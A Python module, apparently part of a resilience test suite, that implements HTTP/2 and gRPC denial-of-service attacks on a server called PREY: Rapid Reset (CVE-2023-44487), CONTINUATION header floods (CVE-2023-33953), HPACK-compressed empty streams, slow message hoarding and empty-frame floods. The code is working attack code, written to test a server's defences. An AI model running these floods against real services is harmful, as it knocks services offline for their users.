"""Attacks by calls that cost the caller less than the server. Each is a generator as in
connections.py."""

import itertools
import multiprocessing
import struct
import threading
import time

import rpc
import sites
from hypermap.v1 import query_service_pb2

import http2
from site_under_attack import PREY

PROCESSES = 8


def _area_call():
    """Returns the header block and the body of a QueryArea of everything."""
    request = query_service_pb2.QueryAreaRequest()
    request.scope.map = PREY
    rpc.json_format.ParseDict(sites.square(-5000, -5000, 10000), request.area)
    return (http2.grpc_headers("QueryService/QueryArea"),
            http2.grpc_message(request.SerializeToString()))


def _reset_rapidly(address, seconds, go, results):
    headers, body = _area_call()
    resets = closed = 0
    cancel = http2.CANCEL.to_bytes(4, "big")
    go.wait()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with http2.Connection(address, http2.ATTACKER, timeout_s=1) as connection:
                while time.monotonic() < end:
                    count = min(50, connection.connection_window() // len(body))
                    if count == 0:
                        connection.receive(1)
                        continue
                    frames = []
                    for _ in range(count):
                        stream = connection.new_stream()
                        frames += [http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers),
                                   http2.frame(http2.DATA, 0, stream, body),
                                   http2.frame(http2.RST_STREAM, 0, stream, cancel)]
                    connection.send(b"".join(frames))
                    connection.count_sent(count * len(body))
                    resets += count
                    connection.receive(0)
        except (http2.Closed, OSError):
            closed += 1
    results.put((resets, closed))


def rapid_reset(site):
    """A2: eight processes begin calls and cancel them at once, for 10 s (CVE-2023-44487)."""
    context = multiprocessing.get_context("spawn")
    go, results = context.Event(), context.Queue()
    processes = [context.Process(target=_reset_rapidly, daemon=True,
                                 args=(site.address, site.size(10, 2), go, results))
                 for _ in range(PROCESSES)]
    for process in processes:
        process.start()
    yield
    go.set()
    for _ in processes:
        resets, closed = results.get(timeout=60)
        site.tell("resets", resets)
        site.tell("connections lost", closed)
    for process in processes:
        process.join()
    yield


def endless_streams(site):
    """9,000 calls that send their headers and then nothing."""
    headers, _ = _area_call()
    yield
    connections = []
    for i in range(site.size(9000, 3000)):
        if i % 100 == 0:
            connections.append(http2.Connection(site.address))
        stream = connections[-1].new_stream()
        connections[-1].send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
        site.tell("calls that are not finished")
    while site.attacking():
        for connection in connections:
            connection.receive(0)
        time.sleep(0.05)
    for connection in connections:
        connection.close()
    yield


def _in_threads(count, function):
    """Calls function(i) in threads, and returns when all have ended."""
    threads = [threading.Thread(target=function, args=(i,), daemon=True) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def header_blocks(site):
    """Four connections announce a header of 20 MB each and send it in CONTINUATION frames
    (CVE-2023-33953), with other headers over and over when they are closed."""
    size = 20 << 20
    begin = (http2.header_block([(b":method", b"POST")]) +
             http2.literal_begin(b"name", size + 100_000))
    part = http2.frame(http2.CONTINUATION, 0, 1, b"x" * 16384)

    def feed(_):
        while site.attacking(10, 3):
            try:
                with http2.Connection(site.address, http2.ATTACKER, timeout_s=30) as connection:
                    connection.send(http2.frame(http2.HEADERS, 0, connection.new_stream(), begin))
                    for _ in range(size // 16384 // 8):
                        connection.send(part * 8)
                        connection.receive(0)
                    site.tell("blocks sent")
            except (http2.Closed, OSError):
                site.tell("connections lost")

    yield
    site.attacking(10, 3)
    _in_threads(4, feed)
    yield


def _indexed(fields):
    """Returns the header block that adds the fields to the dynamic table (RFC 7541, section 2.3.2),
    and the one that repeats them, of a byte or two for each."""
    first = b"".join(b"\x40" + http2.string(name) + http2.string(value)
                     for name, value in fields)
    return first, b"".join(http2.indexed(len(fields) - 1 - i) for i in range(len(fields)))


def empty_streams(site):
    """100 connections begin 1,900 calls each, of which no message follows: about 50 bytes for each
    call, and 17 KB of the server's memory."""
    first, later = _indexed([
        (b":method", b"POST"), (b":scheme", b"http"),
        (b":path", b"/hypermap.v1.QueryService/QueryPoint"), (b":authority", b"l"),
        (b"te", b"trailers"), (b"content-type", b"application/grpc"),
        *[(b"k%d" % i, b"v" * 30) for i in range(40)]])
    frames = [http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * i + 1, later if i else first)
              for i in range(1900)]
    yield
    connections = []
    for i in range(site.size(100, 40)):
        # The server looks at its memory every 20 ms.
        try:
            connections.append(http2.Connection(site.address, http2.ATTACKER))
            for k in range(0, len(frames), 500):
                connections[-1].send(b"".join(frames[k:k + 500]))
                time.sleep(0.01)
        except http2.Closed:
            site.tell("connections lost")
    site.attacking(10, 8)
    while site.attacking(10, 8):
        for connection in list(connections):
            try:
                connection.receive(0)
            except http2.Closed:
                site.tell("connections lost")
                connection.close()
                connections.remove(connection)
        time.sleep(0.05)
    site.tell("connections left", len(connections))
    for connection in connections:
        connection.close()
    yield


def slow_hoarders(site):
    """64 connections each send all but the last byte of a message of 15 MB, 2.5 MB in a second, and
    then wait. Others upload 2 MB meanwhile."""
    headers = http2.grpc_headers("EditService/ApplyEdits")
    message = http2.grpc_message(bytes(15 << 20))[:-1]
    step = 50 << 10

    def hoard(_):
        try:
            with http2.Connection(site.address, http2.ATTACKER, timeout_s=20) as connection:
                stream = connection.new_stream()
                connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
                for at in range(0, len(message), step):
                    if not site.attacking(25, 12):
                        break
                    connection.send_data(stream, message[at:at + step], end=False)
                    time.sleep(0.02)
                while site.attacking(25, 12):
                    connection.receive(0)
                    time.sleep(0.05)
                site.tell("connections left")
        except (http2.Closed, OSError):
            site.tell("connections lost")

    batch = [sites.put("chair", i % 40, i // 40, attributes={"a": {"string_value": "z" * 900}})
             for i in range(2000)]

    def upload(_):
        with site.client() as client:
            while site.attacking(25, 12):
                call = client.ApplyEdits.begin(map=PREY, edits=batch, timeout=20)
                if not site.tell_result(call):
                    site.tell("uploads lost")
                time.sleep(0.5)

    yield
    site.attacking(25, 12)
    _in_threads(65, lambda i: upload(i) if i == 64 else hoard(i))
    yield
    assert not site.told["uploads lost"], f"{site.told['uploads lost']} uploads of others were lost"


def empty_frames(site):
    """Four connections send frames that carry nothing as fast as they can: empty DATA, windows,
    priorities, resets of a stream that was never opened, or GOAWAY. When they are closed, they
    connect again and send the next kind."""
    headers, _ = _area_call()
    kinds = [lambda stream: http2.frame(http2.DATA, 0, stream),
             lambda stream: http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
             lambda stream: http2.frame(http2.PRIORITY, 0, stream, b"\0\0\0\0\1"),
             lambda stream: http2.frame(http2.RST_STREAM, 0, stream + 2, b"\0\0\0\x08"),
             lambda stream: http2.frame(http2.GOAWAY, 0, 0, bytes(8))]

    def flood(i):
        for kind in itertools.islice(itertools.cycle(kinds), i, None):
            if not site.attacking(10, 3):
                return
            try:
                with http2.Connection(site.address, http2.ATTACKER, timeout_s=2) as connection:
                    stream = connection.new_stream()
                    connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
                    frames = kind(stream) * 1000
                    while site.attacking(10, 3):
                        connection.send(frames)
                        site.tell("frames", 1000)
            except (http2.Closed, OSError):
                site.tell("connections lost")

    yield
    site.attacking(10, 3)
    _in_threads(4, flood)
    yield
